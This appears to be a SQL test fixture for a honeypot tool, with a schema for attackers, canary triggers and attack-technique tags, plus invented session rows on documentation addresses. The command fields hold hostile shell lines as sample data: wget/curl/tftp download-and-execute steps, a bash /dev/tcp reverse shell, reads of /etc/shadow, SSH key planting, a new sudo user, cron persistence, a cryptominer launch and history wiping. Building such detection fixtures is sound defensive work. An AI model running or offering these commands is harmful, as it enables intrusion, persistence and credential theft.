-- SPDX-License-Identifier: Apache-2.0
-- A small honeypot database for the demo and the tests: the tables that `ttp backfill` reads and
-- writes, with invented rows. Addresses are from the documentation networks.
--
--   sqlite3 decnet.db < tests/sample/decnet.sql
PRAGMA journal_mode = WAL;
BEGIN;

CREATE TABLE attackers (
  uuid VARCHAR NOT NULL,
  ip VARCHAR NOT NULL,
  identity_id VARCHAR,
  first_seen DATETIME NOT NULL,
  last_seen DATETIME NOT NULL,
  event_count INTEGER NOT NULL,
  service_count INTEGER NOT NULL,
  decky_count INTEGER NOT NULL,
  services TEXT NOT NULL,
  deckies TEXT NOT NULL,
  traversal_path TEXT,
  is_traversal BOOLEAN NOT NULL,
  bounty_count INTEGER NOT NULL,
  credential_count INTEGER NOT NULL,
  fingerprints TEXT NOT NULL,
  commands TEXT NOT NULL,
  country_code VARCHAR(2),
  country_source VARCHAR(16),
  asn INTEGER,
  as_name VARCHAR(128),
  bgp_prefix VARCHAR(43),
  asn_source VARCHAR(16),
  rpki_status VARCHAR(16),
  rpki_source VARCHAR(16),
  ptr_record VARCHAR(256),
  rotation_count INTEGER NOT NULL,
  last_rotation_at DATETIME,
  ipv6_leak_count INTEGER NOT NULL,
  last_ipv6_leak_at DATETIME,
  last_ipv6_link_local VARCHAR(45),
  last_ipv6_iid_kind VARCHAR(16),
  last_ipv6_mac_oui VARCHAR(8),
  updated_at DATETIME NOT NULL,
  PRIMARY KEY (uuid)
);
CREATE INDEX ix_attackers_last_seen ON attackers (last_seen);

CREATE TABLE canary_triggers (
  uuid VARCHAR NOT NULL,
  token_uuid VARCHAR NOT NULL,
  occurred_at DATETIME NOT NULL,
  src_ip VARCHAR NOT NULL,
  user_agent VARCHAR,
  request_path VARCHAR,
  dns_qname VARCHAR,
  raw_headers TEXT NOT NULL,
  attacker_id VARCHAR,
  PRIMARY KEY (uuid)
);
CREATE INDEX ix_canary_triggers_attacker_id ON canary_triggers (attacker_id);

CREATE TABLE ttp_rule (
  rule_id VARCHAR NOT NULL,
  rule_version INTEGER NOT NULL,
  source_path VARCHAR NOT NULL,
  yaml_content TEXT NOT NULL,
  updated_at DATETIME NOT NULL,
  updated_by VARCHAR NOT NULL,
  PRIMARY KEY (rule_id)
);

CREATE TABLE ttp_rule_state (
  rule_id VARCHAR NOT NULL,
  state VARCHAR NOT NULL,
  confidence_max FLOAT,
  expires_at DATETIME,
  reason VARCHAR,
  set_by VARCHAR,
  set_at DATETIME NOT NULL,
  PRIMARY KEY (rule_id)
);

CREATE TABLE ttp_tag (
  uuid VARCHAR NOT NULL,
  source_kind VARCHAR NOT NULL,
  source_id VARCHAR NOT NULL,
  attacker_uuid VARCHAR,
  identity_uuid VARCHAR,
  session_id VARCHAR,
  decky_id VARCHAR,
  tactic VARCHAR NOT NULL,
  technique_id VARCHAR NOT NULL,
  sub_technique_id VARCHAR,
  confidence FLOAT NOT NULL,
  rule_id VARCHAR NOT NULL,
  rule_version INTEGER NOT NULL,
  evidence JSON NOT NULL,
  attack_release VARCHAR NOT NULL,
  mitre_url VARCHAR,
  created_at DATETIME NOT NULL,
  PRIMARY KEY (uuid),
  CONSTRAINT ttp_tag_has_anchor CHECK (attacker_uuid IS NOT NULL OR identity_uuid IS NOT NULL),
  CONSTRAINT ttp_tag_confidence_range CHECK (confidence >= 0.0 AND confidence <= 1.0)
);
CREATE INDEX ix_ttp_tag_attacker_uuid ON ttp_tag (attacker_uuid);
CREATE INDEX ix_ttp_tag_identity_uuid ON ttp_tag (identity_uuid);
CREATE INDEX ix_ttp_tag_technique_id ON ttp_tag (technique_id);

-- Looks round and fetches a bot; commands as the profiler stores them (`command`).
INSERT INTO attackers (uuid, ip, identity_id, first_seen, last_seen, event_count,
    service_count, decky_count, services, deckies, is_traversal, bounty_count,
    credential_count, fingerprints, commands, rotation_count, ipv6_leak_count, updated_at)
VALUES ('6f1d0c52-8c0e-4f6a-9d2b-50b3f6a1c701', '198.51.100.23',
    NULL,
    '2026-11-03 02:14:07.331204', '2026-11-03 02:14:31.220118', 7,
    1, 1, '["ssh"]', '["decoy-ams-01"]', 0, 0, 1, '[]',
    '[{"service": "ssh", "decky": "decoy-ams-01", "command": "uname -a", "timestamp": "2026-11-03 02:14:20"}, ' ||
    '{"service": "ssh", "decky": "decoy-ams-01", "command": "whoami", "timestamp": "2026-11-03 02:14:27"}, ' ||
    '{"service": "ssh", "decky": "decoy-ams-01", "command": "cat /etc/passwd", "timestamp": "2026-11-03 02:14:34"}, ' ||
    '{"service": "ssh", "decky": "decoy-ams-01", "command": "cd /tmp; wget http://203.0.113.80/bins/x86_64 -O .t; chmod +x .t; ./.t", "timestamp": "2026-11-03 02:14:41"}]',
    0, 0, '2026-11-03 02:14:31.220118');

-- A botnet loader over telnet; commands as sessions store them (`command_text`, session and index).
INSERT INTO attackers (uuid, ip, identity_id, first_seen, last_seen, event_count,
    service_count, decky_count, services, deckies, is_traversal, bounty_count,
    credential_count, fingerprints, commands, rotation_count, ipv6_leak_count, updated_at)
VALUES ('a3b9e7f4-1f52-4c77-8a0e-9c6d2e4b8802', '203.0.113.77',
    NULL,
    '2026-11-03 05:40:51.004518', '2026-11-03 05:41:04.900331', 7,
    1, 1, '["telnet"]', '["decoy-fra-02"]', 0, 0, 1, '[]',
    '[{"session_id": "77d0e1c45a18", "index": 0, "decky_id": "decoy-fra-02", "command_text": "enable"}, ' ||
    '{"session_id": "77d0e1c45a18", "index": 1, "decky_id": "decoy-fra-02", "command_text": "sh"}, ' ||
    '{"session_id": "77d0e1c45a18", "index": 2, "decky_id": "decoy-fra-02", "command_text": "/bin/busybox wget http://198.51.100.200/o/mips -O - > .o; chmod 777 .o; ./.o telnet.mips"}, ' ||
    '{"session_id": "77d0e1c45a18", "index": 3, "decky_id": "decoy-fra-02", "command_text": "/bin/busybox tftp -g -r mips -l .o 198.51.100.200"}]',
    0, 0, '2026-11-03 05:41:04.900331');

-- Plants an SSH key; elements with ids of their own.
INSERT INTO attackers (uuid, ip, identity_id, first_seen, last_seen, event_count,
    service_count, decky_count, services, deckies, is_traversal, bounty_count,
    credential_count, fingerprints, commands, rotation_count, ipv6_leak_count, updated_at)
VALUES ('0d7e5a16-63c4-4a0b-b0c5-7e1f9ab34403', '198.51.100.140',
    'b4c0ffee-7a11-4e57-9d10-2f6a8c1e5504',
    '2026-11-04 11:02:36.918840', '2026-11-04 11:02:46.001277', 7,
    1, 1, '["ssh"]', '["decoy-ams-01"]', 0, 0, 1, '[]',
    '[{"id": "c28f50b7d9e3-0", "session_id": "c28f50b7d9e3", "decky_id": "decoy-ams-01", "command_text": "cd ~; chattr -ia .ssh", "user": "root", "pwd": "/root"}, ' ||
    '{"id": "c28f50b7d9e3-1", "session_id": "c28f50b7d9e3", "decky_id": "decoy-ams-01", "command_text": "mkdir -p ~/.ssh && echo \"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAISample sample@decoy\" >> ~/.ssh/authorized_keys", "user": "root", "pwd": "/root"}, ' ||
    '{"id": "c28f50b7d9e3-2", "session_id": "c28f50b7d9e3", "decky_id": "decoy-ams-01", "command_text": "lscpu | grep Model", "user": "root", "pwd": "/root"}, ' ||
    '{"id": "c28f50b7d9e3-3", "session_id": "c28f50b7d9e3", "decky_id": "decoy-ams-01", "command_text": "crontab -l", "user": "root", "pwd": "/root"}]',
    0, 0, '2026-11-04 11:02:46.001277');

-- A visitor who does no harm.
INSERT INTO attackers (uuid, ip, identity_id, first_seen, last_seen, event_count,
    service_count, decky_count, services, deckies, is_traversal, bounty_count,
    credential_count, fingerprints, commands, rotation_count, ipv6_leak_count, updated_at)
VALUES ('5c2e8d93-40fb-4b1c-a7d6-3f0b6e917705', '192.0.2.155',
    NULL,
    '2026-11-05 16:20:11.450093', '2026-11-05 16:20:42.018221', 7,
    1, 1, '["ssh"]', '["decoy-ams-01"]', 0, 0, 1, '[]',
    '[{"service": "ssh", "decky": "decoy-ams-01", "command": "ls", "timestamp": "2026-11-05 16:20:18"}, ' ||
    '{"service": "ssh", "decky": "decoy-ams-01", "command": "pwd", "timestamp": "2026-11-05 16:20:25"}, ' ||
    '{"service": "ssh", "decky": "decoy-ams-01", "command": "echo hello", "timestamp": "2026-11-05 16:20:32"}, ' ||
    '{"service": "ssh", "decky": "decoy-ams-01", "command": "exit", "timestamp": "2026-11-05 16:20:39"}]',
    0, 0, '2026-11-05 16:20:42.018221');

-- Installs a miner; bare texts beside objects.
INSERT INTO attackers (uuid, ip, identity_id, first_seen, last_seen, event_count,
    service_count, decky_count, services, deckies, is_traversal, bounty_count,
    credential_count, fingerprints, commands, rotation_count, ipv6_leak_count, updated_at)
VALUES ('e81f4b27-9a35-4d2e-8c6f-1b7d0a5ec906', '203.0.113.9',
    NULL,
    '2026-11-06 23:51:02.100727', '2026-11-06 23:51:17.730448', 8,
    1, 1, '["ssh"]', '["decoy-fra-02"]', 0, 0, 1, '[]',
    '["nproc; lscpu; free -h", ' ||
    '"curl -fsSL http://203.0.113.80/m/setup.tgz -o /tmp/.s.tgz", ' ||
    '{"session_id": "9ae4d0237c61", "index": 0, "decky_id": "decoy-fra-02", "command_text": "(crontab -l 2>/dev/null; echo \"*/9 * * * * /var/tmp/.x11/run.sh >/dev/null 2>&1\") | crontab -"}, ' ||
    '{"session_id": "9ae4d0237c61", "index": 1, "decky_id": "decoy-fra-02", "command_text": "nohup /var/tmp/.x11/xmrig -o 203.0.113.81:3333 -u wallet.sample -p x >/dev/null 2>&1 &"}, ' ||
    '{"session_id": "9ae4d0237c61", "index": 2, "decky_id": "decoy-fra-02", "command_text": "history -c && unset HISTFILE"}]',
    0, 0, '2026-11-06 23:51:17.730448');

-- An intruder at a keyboard.
INSERT INTO attackers (uuid, ip, identity_id, first_seen, last_seen, event_count,
    service_count, decky_count, services, deckies, is_traversal, bounty_count,
    credential_count, fingerprints, commands, rotation_count, ipv6_leak_count, updated_at)
VALUES ('92ab6de0-57c1-4f38-9e04-d6c3f18b7a07', '198.51.100.61',
    'b4c0ffee-7a11-4e57-9d10-2f6a8c1e5508',
    '2026-11-07 14:05:19.216600', '2026-11-07 14:06:52.377010', 10,
    1, 1, '["ssh"]', '["decoy-fra-02"]', 0, 0, 1, '[]',
    '[{"session_id": "5d83a6e0fb2c", "index": 0, "decky_id": "decoy-fra-02", "command_text": "id; hostname"}, ' ||
    '{"session_id": "5d83a6e0fb2c", "index": 1, "decky_id": "decoy-fra-02", "command_text": "sudo -l"}, ' ||
    '{"session_id": "5d83a6e0fb2c", "index": 2, "decky_id": "decoy-fra-02", "command_text": "cat /etc/shadow"}, ' ||
    '{"session_id": "5d83a6e0fb2c", "index": 3, "decky_id": "decoy-fra-02", "command_text": "find / -perm -4000 -type f 2>/dev/null"}, ' ||
    '{"session_id": "5d83a6e0fb2c", "index": 4, "decky_id": "decoy-fra-02", "command_text": "nc -zv 192.0.2.20 22 80 443 3306"}, ' ||
    '{"session_id": "5d83a6e0fb2c", "index": 5, "decky_id": "decoy-fra-02", "command_text": "bash -i >& /dev/tcp/198.51.100.61/4444 0>&1"}, ' ||
    '{"session_id": "5d83a6e0fb2c", "index": 6, "decky_id": "decoy-fra-02", "command_text": "useradd -m -s /bin/bash -G sudo svc-print"}]',
    0, 0, '2026-11-07 14:06:52.377010');

-- Only browses: no commands; see its canary hits below.
INSERT INTO attackers (uuid, ip, identity_id, first_seen, last_seen, event_count,
    service_count, decky_count, services, deckies, is_traversal, bounty_count,
    credential_count, fingerprints, commands, rotation_count, ipv6_leak_count, updated_at)
VALUES ('c7407f3b-2d68-4e9a-b5f1-60e8a94d1b08', '198.51.100.90',
    NULL,
    '2026-11-06 09:12:44.118000', '2026-11-07 20:30:05.000210', 3,
    1, 1, '["http"]', '["decoy-fra-02"]', 0, 0, 1, '[]',
    '[]',
    0, 0, '2026-11-07 20:30:05.000210');

-- Seen last in September: outside of the window of the demo.
INSERT INTO attackers (uuid, ip, identity_id, first_seen, last_seen, event_count,
    service_count, decky_count, services, deckies, is_traversal, bounty_count,
    credential_count, fingerprints, commands, rotation_count, ipv6_leak_count, updated_at)
VALUES ('d16c95e2-8b07-4c53-a9fe-27b50d83ff09', '203.0.113.130',
    NULL,
    '2026-09-14 08:00:00.000000', '2026-09-14 08:01:10.500000', 6,
    1, 1, '["ssh"]', '["decoy-ams-01"]', 0, 0, 1, '[]',
    '[{"service": "ssh", "decky": "decoy-ams-01", "command": "uname -a", "timestamp": "2026-09-14 08:00:20"}, ' ||
    '{"service": "ssh", "decky": "decoy-ams-01", "command": "wget http://198.51.100.201/a.sh", "timestamp": "2026-09-14 08:00:27"}, ' ||
    '{"service": "ssh", "decky": "decoy-ams-01", "command": "sh a.sh", "timestamp": "2026-09-14 08:00:34"}]',
    0, 0, '2026-09-14 08:01:10.500000');

-- A headless browser opens a document canary.
INSERT INTO canary_triggers (uuid, token_uuid, occurred_at, src_ip, user_agent, request_path,
    dns_qname, raw_headers, attacker_id)
VALUES ('7e9b1f60-44d2-4c1a-9a55-0f3c6d2b8e01', '11f0a2b4-0c3d-4e5f-8a6b-7c8d9e0f1a01',
    '2026-11-06 09:12:44.118000', '198.51.100.90',
    'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/126.0.0.0 Safari/537.36',
    '/d/q3-forecast', NULL,
    '{"Host": "files.example", "User-Agent": "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/126.0.0.0 Safari/537.36", "Accept": "*/*", "sec-ch-ua-platform": "\"Linux\""}',
    'c7407f3b-2d68-4e9a-b5f1-60e8a94d1b08');

-- A browser that says Windows in one header and Linux in another.
INSERT INTO canary_triggers (uuid, token_uuid, occurred_at, src_ip, user_agent, request_path,
    dns_qname, raw_headers, attacker_id)
VALUES ('7e9b1f60-44d2-4c1a-9a55-0f3c6d2b8e02', '11f0a2b4-0c3d-4e5f-8a6b-7c8d9e0f1a01',
    '2026-11-06 09:13:02.504110', '198.51.100.90',
    'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36',
    '/d/q3-forecast/preview', NULL,
    '{"Host": "files.example", "User-Agent": "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36", "Accept": "text/html", "sec-ch-ua-platform": "\"Linux\""}',
    'c7407f3b-2d68-4e9a-b5f1-60e8a94d1b08');

-- A script follows the link.
INSERT INTO canary_triggers (uuid, token_uuid, occurred_at, src_ip, user_agent, request_path,
    dns_qname, raw_headers, attacker_id)
VALUES ('7e9b1f60-44d2-4c1a-9a55-0f3c6d2b8e03', '22f0a2b4-0c3d-4e5f-8a6b-7c8d9e0f1a02',
    '2026-11-07 20:30:05.000210', '198.51.100.90',
    'python-requests/2.32.3',
    '/login', NULL,
    '{"Host": "portal.example", "User-Agent": "python-requests/2.32.3", "Accept": "*/*"}',
    'c7407f3b-2d68-4e9a-b5f1-60e8a94d1b08');

-- A person with an ordinary browser.
INSERT INTO canary_triggers (uuid, token_uuid, occurred_at, src_ip, user_agent, request_path,
    dns_qname, raw_headers, attacker_id)
VALUES ('7e9b1f60-44d2-4c1a-9a55-0f3c6d2b8e04', '22f0a2b4-0c3d-4e5f-8a6b-7c8d9e0f1a02',
    '2026-11-05 16:31:20.990042', '192.0.2.155',
    'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0',
    '/login', NULL,
    '{"Host": "portal.example", "User-Agent": "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0", "Accept": "text/html", "Accept-Language": "de,en;q=0.7"}',
    '5c2e8d93-40fb-4b1c-a7d6-3f0b6e917705');

-- A look-up of a canary name: no request, only DNS.
INSERT INTO canary_triggers (uuid, token_uuid, occurred_at, src_ip, user_agent, request_path,
    dns_qname, raw_headers, attacker_id)
VALUES ('7e9b1f60-44d2-4c1a-9a55-0f3c6d2b8e05', '22f0a2b4-0c3d-4e5f-8a6b-7c8d9e0f1a02',
    '2026-11-07 14:07:31.250000', '198.51.100.61',
    NULL,
    NULL, 'k7d2.t.example',
    '{}',
    '92ab6de0-57c1-4f38-9e04-d6c3f18b7a07');

COMMIT;
